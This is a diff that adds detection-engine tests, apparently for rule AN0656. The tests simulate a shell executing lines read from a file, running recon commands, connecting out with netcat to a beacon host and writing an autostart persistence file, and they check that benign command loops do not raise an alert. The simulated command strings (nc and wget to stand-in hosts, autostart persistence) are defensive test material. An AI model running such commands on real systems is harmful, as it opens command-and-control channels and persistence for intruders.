@@ -140,3 +140,41 @@ test('what a shell writes and reads again at once is its history, wherever that 
   other.shell.run('/usr/bin/wget -q http://drop.example.net/').connect(BEACON, 80);
   firesAt(await scanLog(other.log), 'AN0656', 'medium');
 });
+
+/** `while read -r l; do eval "$l"; done < FILE` */
+for (const name of ['checks.lst', 'checks.txt'])
+  test(`a shell that opens ${name} and starts one program after the other, none twice, has its orders from there`, async () => {
+    const { log, shell, file } = saved(name);
+    shell.read(file);
+    for (const program of ['df', 'id', 'hostname']) shell.run(`/usr/bin/${program}`);
+    shell.run(`/usr/bin/nc -w 2 ${BEACON} 9001`).connect(BEACON, 9001);
+    shell.write(`${HOME}/.config/autostart/c.desktop`);
+    const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
+    inOrder(alert, [
+      ['content.executed', file, 'bash'],
+      ['network.connected', 'nc', BEACON],
+      ['persistence.written', 'c.desktop'],
+    ]);
+  });
+
+test('a loop over a list starts the same programs for each of its lines', async () => {
+  const { log, shell, file } = saved('hosts.lst');
+  shell.read(file);
+  for (const host of ['a', 'b', 'c', 'd']) {
+    shell.run(`/usr/bin/getent hosts ${host}`);
+    shell.run(`/usr/bin/curl http://${host}.example.org/`).connect(BEACON, 80);
+  }
+  for (const program of ['sort', 'date', 'id', 'wc']) shell.run(`/usr/bin/${program}`);
+  atMostAt(await scanLog(log), 'informational');
+});
+
+test('what is typed after a list was read is its person’s, however many programs it is', async () => {
+  const { log, shell, file } = saved('hosts.lst');
+  shell.read(file);
+  for (const program of ['df', 'id', 'hostname', 'uptime']) {
+    log.wait(SECOND);
+    shell.run(`/usr/bin/${program}`);
+  }
+  shell.run('/usr/bin/curl https://work.example.org/').connect('203.0.113.30', 443);
+  atMostAt(await scanLog(log), 'informational');
+});
